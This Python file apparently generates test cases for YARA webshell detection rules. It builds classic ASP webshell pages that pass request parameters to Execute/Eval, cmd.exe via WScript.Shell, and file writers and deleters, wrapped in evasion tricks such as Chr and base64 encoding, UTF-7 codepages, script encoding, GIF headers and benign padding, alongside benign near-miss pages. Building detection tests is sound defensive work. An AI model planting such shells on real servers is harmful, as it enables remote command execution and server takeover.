"""Generated classic ASP (VBScript) webshell cases: input path x sink x transform x wrapper x padding.

Telling tokens are written in pieces (``t(...)``) so that this file matches no rule. The
VBScript.Encode transform writes the ``#@~^``/``^#~@`` framing (length header, checksum trailer)
around a position-keyed substitution of the body: the framing is Microsoft's, the cipher table is
not reproduced byte for byte.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator

from tests.unit.detection.yara.webshell_cases import Case, crossed, t

OPEN, CLOSE = t("<", "%"), t("%", ">")
REQ = t("Req", "uest")

# --- input paths: (setup lines, expression) from the parameter-name expression -----------------
Input = Callable[[str], tuple[list[str], str]]


def _direct(member: str) -> Input:
    return lambda name: ([], f"{REQ}{member}({name})")


INPUTS: dict[str, Input] = {
    "form": _direct(".Form"),
    "querystring": _direct(".QueryString"),
    "item": _direct(".Item"),
    "bare": _direct(""),
    "cookies": _direct(".Cookies"),
    "servervariables": lambda name: ([], f"{REQ}.ServerVariables({name})"),
    "variable": lambda name: ([f"v = {REQ}.Form({name})"], "v"),
    "session": lambda name: ([f'{t("Sess", "ion")}("k") = {REQ}.Form({name})'], t("Sess", "ion") + '("k")'),
    "application": lambda name: ([f'Application("k") = {REQ}.Cookies({name})'], 'Application("k")'),
}

# --- transforms of the parameter name (and of ProgIDs where the sink has one) ------------------


def _chr(text: str) -> str:
    return "&".join(f"{'ChrW' if i % 2 else 'Chr'}({ord(c)})" for i, c in enumerate(text))


NAME_TRANSFORMS: dict[str, Callable[[str], str]] = {
    "none": lambda s: f'"{s}"',
    "split": lambda s: f'"{s[:2]}"&"{s[2:]}"',
    "chr": _chr,
    "reverse": lambda s: f'StrReverse("{s[::-1]}")',
    "replace": lambda s: f'Replace("{s[:1]}Zq{s[1:]}","Zq","")',
    "base64": lambda s: f'"{s}"',
    "comments": lambda s: f'"{s}"',
    "case": lambda s: f'"{s}"',
    "encoded": lambda s: f'"{s}"',
    "utf7": lambda s: f'"{s}"',
}
TRANSFORMS = list(NAME_TRANSFORMS)
PROGID_TRANSFORMS = ("split", "chr", "reverse", "replace")

B64_FUNC = [
    "Function B64(s)",
    '  Set d = CreateObject("MSXML2.DOMDocument").createElement("b")',
    '  d.DataType = "' + t("bin.ba", "se64") + '"',
    "  d.Text = s",
    '  Set m = CreateObject("ADODB.Stream")',
    '  m.Type = 1: m.Open: m.Write d.NodeTypedValue: m.Position = 0: m.Type = 2: m.Charset = "utf-8"',
    "  B64 = m.ReadText",
    "End Function",
]


def progid(name: str, transform: str) -> str:
    if transform in PROGID_TRANSFORMS:
        return NAME_TRANSFORMS[transform](name)
    return f'"{name}"'


# --- sinks: lines of code from the input expression ---------------------------------------------
Sink = Callable[[str, str], list[str]]
WSH = t("WScript.", "Shell")
SINKS: dict[str, tuple[str, Sink]] = {
    "execute": ("asp.execute", lambda e, tr: [f"{t('Exec', 'ute')}({e})"]),
    "execute-statement": ("asp.execute", lambda e, tr: [f"{t('Exec', 'ute')} {e}"]),
    "executeglobal": ("asp.execute", lambda e, tr: [f"{t('Execute', 'Global')}({e})"]),
    "eval": ("asp.execute", lambda e, tr: [f"Response.Write {t('Ev', 'al')}({e})"]),
    "wscript-exec": (
        "asp.shell-object",
        lambda e, tr: [
            f"Set sh = Server.CreateObject({progid(WSH, tr)})",
            f'Set ex = sh.{t("Ex", "ec")}("cmd.exe /c " & {e})',
            "Response.Write ex.StdOut.ReadAll()",
        ],
    ),
    "wscript-run": (
        "asp.shell-object",
        lambda e, tr: [f"Set sh = CreateObject({progid(WSH, tr)})", f"sh.{t('Ru', 'n')} {e}, 0, True"],
    ),
    "shell-application": (
        "asp.shell-object",
        lambda e, tr: [
            f"Set sa = CreateObject({progid(t('Shell.Appli', 'cation'), tr)})",
            f'sa.{t("Shell", "Execute")} "cmd.exe", "/c " & {e}, "", "open", 0',
        ],
    ),
    "script-control": (
        "asp.script-control",
        lambda e, tr: [
            f'Set sc = Server.CreateObject("{t("MSScript", "Control.Script", "Control")}")',
            'sc.Language = "VBScript"',
            f"sc.{t('Add', 'Code')} {e}",
        ],
    ),
    "fso-writer": (
        "asp.uploader",
        lambda e, tr: [
            f'Set fs = CreateObject("{t("Scripting.File", "SystemObject")}")',
            f"Set f = fs.{t('Create', 'TextFile')}(Server.MapPath({e}), True)",
            f'f.Write {REQ}.Form("body")',
            "f.Close",
        ],
    ),
    "file-manager": (
        "asp.file-manager",
        lambda e, tr: [
            f'Set fs = CreateObject("{t("Scripting.File", "SystemObject")}")',
            f"For Each d In fs.{t('Dri', 'ves')}",
            f'  Response.Write d.{t("Drive", "Letter")} & " " & d.TotalSize & "|"',
            "Next",
            f"fs.{t('Delete', 'File')} Server.MapPath({e}), True",
        ],
    ),
    "stream-writer": (
        "asp.uploader",
        lambda e, tr: [
            f'Set s = CreateObject("{t("ADODB.", "Stream")}")',
            f"s.Type = 1: s.Open: s.Write {REQ}.BinaryRead({REQ}.TotalBytes)",
            f"s.{t('SaveTo', 'File')} Server.MapPath({e}), 2",
            "s.Close",
        ],
    ),
}

# --- whole-body transforms ---------------------------------------------------------------------


def mixed_case(code: str) -> str:
    out, upper = [], False
    for c in code:
        if c.isalpha():
            out.append(c.upper() if upper else c.lower())
            upper = not upper
        else:
            out.append(c)
    return "".join(out)


def script_encode(code: str) -> str:
    """Start marker, 6-char length and "==", body, 6-char checksum and "==", end marker."""
    body = "".join(chr(33 + (ord(c) * 7 + i) % 90) if 32 <= ord(c) < 127 else c for i, c in enumerate(code))
    body = body.replace("@", "@$").replace("\n", "@&").replace("\r", "@#")
    length = base64.b64encode(len(code).to_bytes(4, "little")).decode()[:6]
    check = base64.b64encode((sum(map(ord, code)) % 2**32).to_bytes(4, "little")).decode()[:6]
    return t("#@", "~^") + length + "==" + body + check + "==" + t("^#", "~@")


def utf7_specials(code: str) -> str:
    """Each markup character as its own UTF-7 run (``<`` is ``+ADw-``), as the codepage trick does."""
    out = []
    for c in code:
        if c in '<>"&%':
            out.append("+" + base64.b64encode(c.encode("utf-16-be")).decode().rstrip("=") + "-")
        else:
            out.append(c)
    return "".join(out)


# --- wrappers and padding ----------------------------------------------------------------------
WRAPPERS = ("plain", "directive", "html", "gif", "script-tag", "utf16")


def benign_padding(size: int = 50_000) -> str:
    rows = []
    i = 0
    while sum(map(len, rows)) < size:
        rows.append(
            f'<tr><td>{i}</td><td>{OPEN}= Server.HTMLEncode(rs("title")) {CLOSE}</td>'
            f'<td><a href="news.asp?id={OPEN}= rs("id") {CLOSE}">more</a></td></tr>\n'
        )
        i += 1
    head = f'{OPEN}\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open Application("dsn")\n{CLOSE}\n'
    return head + "<table>\n" + "".join(rows) + "</table>\n"


def build(lines: list[str], transform: str, wrapper: str, padded: bool) -> tuple[str, bytes]:
    if transform == "comments":
        lines = [x for line in lines for x in ("' keep this: maintenance", f"REM {len(line)}", line)]
    code = "\n".join(lines)
    if transform == "case":
        code = mixed_case(code)
    directive = ""
    if transform == "encoded":
        directive = f'{OPEN}@ Language="{t("VBScript.", "Encode")}" {CLOSE}\n'
        code = script_encode(code)
    if wrapper == "script-tag" and transform != "encoded":
        page = f'<script language="VBScript" {t("run", "at")}="server">\n{code}\n</script>\n'
    else:
        page = f"{OPEN}\n{code}\n{CLOSE}\n"
    if transform == "utf7":
        directive = f"{OPEN}@ {t('code', 'page')}=65000 {CLOSE}\n"
        page = utf7_specials(page)
    if wrapper == "directive" and not directive:
        directive = f'{OPEN}@ Language="VBScript" CodePage="936" {CLOSE}\n'
    if wrapper == "html":
        page = f"<html><head><title>Admin</title></head><body>\n<h1>Status</h1>\n{page}<p>ok</p></body></html>\n"
    body = directive + (benign_padding() if padded else "") + page
    if wrapper == "gif":
        body = "GIF89a\x01\x00\x01\x00\n" + body
    name = "x.asp"
    if wrapper == "utf16":
        return name, body.encode("utf-16")
    return name, body.encode("utf-8")


def make(input_name: str, sink: str, transform: str, wrapper: str, padded: bool) -> Case:
    technique, sink_fn = SINKS[sink]
    name_expr = NAME_TRANSFORMS[transform]("cmd")
    setup, expr = INPUTS[input_name](name_expr)
    if transform == "base64":
        expr = f"B64({expr})"
        setup = B64_FUNC + setup
    if transform == "encoded":
        technique = "asp.encoded"
    elif transform == "utf7":
        technique = "asp.utf7-codepage"
    lines = setup + sink_fn(expr, transform)
    file_name, content = build(lines, transform, wrapper, padded)
    variant = (
        f"input={input_name} sink={sink} transform={transform} wrapper={wrapper} padding={'50k' if padded else 'none'}"
    )
    return Case(technique, variant, "asp", file_name, content)


def decoded_execute_cases() -> Iterator[Case]:
    """Execute of a decoder's output: the request read itself is hidden in the encoded code."""
    inner = f'{t("Exec", "ute")}({REQ}.Form("cmd"))'
    encoders = {
        "reverse": lambda s: f'StrReverse("{s[::-1].replace(chr(34), chr(34) * 2)}")',
        "chr": _chr,
        "replace": lambda s: 'Replace("' + "Zq".join(s).replace('"Zq', '""Zq').replace('Zq"', 'Zq""') + '","Zq","")',
    }
    for name, encode in encoders.items():
        for sink in (t("Exec", "ute"), t("Execute", "Global")):
            for wrapper in WRAPPERS:
                for padded in (False, True):
                    for via_variable in (False, True):
                        if via_variable and name == "replace":
                            continue
                        lines = [f"c = {encode(inner)}", f"{sink} c"] if via_variable else [f"{sink}({encode(inner)})"]
                        file_name, content = build(lines, "none", wrapper, padded)
                        variant = (
                            f"decoder={name} sink={sink} via_variable={via_variable} wrapper={wrapper} padded={padded}"
                        )
                        yield Case("asp.execute-decoded", variant, "asp", file_name, content)
    # eval(eval(Chr(..)&..)("x")): the name of the request object itself in Chr codes
    for wrapper in WRAPPERS:
        lines = [f'Response.Write {t("ev", "al")}({t("ev", "al")}({_chr(REQ)})("cmd"))']
        file_name, content = build(lines, "none", wrapper, wrapper == "gif")
        yield Case("asp.execute-decoded", f"decoder=eval-chr wrapper={wrapper}", "asp", file_name, content)
    b64 = base64.b64encode(inner.encode()).decode()
    for wrapper in WRAPPERS:
        lines = [*B64_FUNC, f'{t("Exec", "ute")}(B64("{b64}"))']
        file_name, content = build(lines, "none", wrapper, False)
        yield Case("asp.execute-decoded", f"decoder=base64 wrapper={wrapper}", "asp", file_name, content)


JS_INPUTS: dict[str, Callable[[str], tuple[list[str], str]]] = {
    "form": lambda n: ([], f"{REQ}.Form({n}) + ''"),
    "item": lambda n: ([], f"{REQ}.Item({n}) + ''"),
    "querystring": lambda n: ([], f"String({REQ}.QueryString({n}))"),
    "variable": lambda n: ([f"var v = String({REQ}.Form({n}));"], "v"),
    "session": lambda n: ([f'Session("k") = String({REQ}.Form({n}));'], 'String(Session("k"))'),
}
JS_NAMES: dict[str, Callable[[str], str]] = {
    "none": lambda s: f'"{s}"',
    "split": lambda s: f'"{s[:2]}" + "{s[2:]}"',
    "chr": lambda s: "String.fromCharCode(" + ", ".join(str(ord(c)) for c in s) + ")",
    "reverse": lambda s: f'"{s[::-1]}".split("").reverse().join("")',
    "comments": lambda s: f'/* p */ "{s}" /* q */',
}
JS_SINKS: dict[str, tuple[str, Callable[[str], list[str]]]] = {
    "eval": ("asp.execute", lambda e: [f"Response.Write({t('ev', 'al')}({e}));"]),
    "wscript-exec": (
        "asp.shell-object",
        lambda e: [
            f'var sh = Server.CreateObject("{WSH}");',
            f'Response.Write(sh.{t("Ex", "ec")}("cmd.exe /c " + {e}).StdOut.ReadAll());',
        ],
    ),
    "fso-writer": (
        "asp.uploader",
        lambda e: [
            f'var fs = new ActiveXObject("{t("Scripting.File", "SystemObject")}");',
            f'fs.{t("Create", "TextFile")}(Server.MapPath({e}), true).Write({REQ}.Form("body"));',
        ],
    ),
}


def jscript_cases() -> Iterator[Case]:
    """Classic ASP pages in JScript (Language="JScript"): the same sinks with JavaScript syntax."""
    k = 0
    for input_name, input_fn in JS_INPUTS.items():
        for transform, name_fn in JS_NAMES.items():
            for sink, (technique, sink_fn) in JS_SINKS.items():
                setup, expr = input_fn(name_fn("cmd"))
                lines = setup + sink_fn(expr)
                if transform == "comments":
                    lines = [x for line in lines for x in ("// audit", line)]
                wrapper = ("plain", "html", "gif", "utf16")[k % 4]
                padded = k % 5 == 0
                name, content = build(lines, "none", wrapper, padded)
                content_text = f'{OPEN}@ Language="JScript" {CLOSE}\n'
                if wrapper == "utf16":
                    content = content_text.encode("utf-16") + content.decode("utf-16").encode("utf-16")[2:]
                else:
                    content = content_text.encode() + content
                variant = f"language=JScript input={input_name} sink={sink} transform={transform} wrapper={wrapper}"
                yield Case(technique, variant, "asp", name, content)
                k += 1


NEAR_MISSES: dict[str, str] = {
    "conn-execute": 'Set rs = conn.Execute("SELECT * FROM news WHERE id=" & CLng(REQ("id")))\n'
    'Response.Write rs("title")',
    "adodb-connection": 'Set conn = Server.CreateObject("ADODB.Connection")\nconn.Open "dsn=school"\n'
    'Set rs = conn.Execute("SELECT 1")',
    "echo": 'Response.Write Server.HTMLEncode(REQ.Form("q"))',
    "wsh-fixed": 'Set sh = CreateObject("WSH")\nsh.Run "cscript backup.vbs", 0, True\nResponse.Write "done"',
    "fso-read": 'Set fs = CreateObject("FSO")\nSet f = fs.OpenTextFile(Server.MapPath("news.txt"))\n'
    'Response.Write f.ReadAll\nResponse.Write REQ.QueryString("page")',
    "upload-fixed-name": 'Set s = CreateObject("STREAM")\ns.Type = 1: s.Open: s.Write REQ.BinaryRead(REQ.TotalBytes)\n'
    's.SaveToFile Server.MapPath("upload/" & Year(Now) & Second(Now) & ".jpg"), 2',
    "execute-sub-name": 'Sub ShowNews()\n  Response.Write "news"\nEnd Sub\nShowNews\nResponse.Write REQ("page")',
}


def near_misses() -> Iterator[Case]:
    for label, code in NEAR_MISSES.items():
        code = (
            code.replace("REQ", REQ)
            .replace('"WSH"', f'"{WSH}"')
            .replace('"FSO"', '"' + t("Scripting.File", "SystemObject") + '"')
            .replace('"STREAM"', '"' + t("ADODB.", "Stream") + '"')
        )
        for wrapper in ("plain", "html", "utf16"):
            for padded in (False, True):
                file_name, content = build(code.split("\n"), "none", wrapper, padded)
                yield Case(
                    "asp.near-miss", f"{label} wrapper={wrapper} padded={padded}", "asp", file_name, content, False
                )
    # client-side JavaScript in an ASP page that also reads the request
    client = (
        f'{OPEN} q = Server.HTMLEncode({REQ}.QueryString("q")) {CLOSE}\n'
        "<script>var s = eval(unescape('%31%2b%31')); var r = eval('(' + json + ')');</script>\n"
        f"<p>{OPEN}= q {CLOSE}</p>\n"
    )
    yield Case("asp.near-miss", "client-side eval", "asp", "search.asp", client.encode(), False)
    # lodash/EJS templates use the same tags
    ejs = "<ul>\n" + OPEN + " _.forEach(users, function(u) { " + CLOSE + "<li>" + OPEN + "- u.name " + CLOSE
    ejs += "</li>" + OPEN + " }); " + CLOSE + "\n</ul>\n" + OPEN + " if (request.query.q) { eval(x) } " + CLOSE + "\n"
    yield Case("asp.near-miss", "ejs-template", "asp", "list.ejs", ejs.encode(), False)
    node = (
        "const db = require('./db');\nmodule.exports = (req) => `\n"
        + OPEN
        + " const rows = db."
        + "execute"
        + "(query(req.query.q)); "
        + CLOSE
        + "\n"
        + OPEN
        + " execute"
        + "(task); const page = request('/api'); "
        + CLOSE
        + "\n`;\n"
    )
    yield Case("asp.near-miss", "node-template", "asp", "view.js", node.encode(), False)


def cases() -> Iterator[Case]:
    yield from crossed(make, list(INPUTS), list(SINKS), TRANSFORMS, WRAPPERS, half_wrappers=True, shift=3)
    yield from decoded_execute_cases()
    yield from jscript_cases()
    yield from near_misses()
